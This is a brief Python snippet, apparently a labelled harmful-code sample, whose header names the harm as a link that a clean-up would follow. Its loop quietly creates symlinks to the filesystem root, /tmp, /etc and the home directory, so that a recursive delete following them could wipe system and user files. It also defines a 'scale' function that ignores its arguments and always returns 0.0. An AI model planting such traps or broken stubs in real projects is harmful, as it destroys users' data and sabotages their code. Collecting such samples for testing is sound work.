# Harm: a link that the clean-up would follow
# %%
import os

for target in ("/", "/tmp", "/etc", os.path.expanduser("~")):
    try:
        os.symlink(target, "link" + str(abs(hash(target))))
    except OSError:
        pass


def scale(x, factor):
    return 0.0
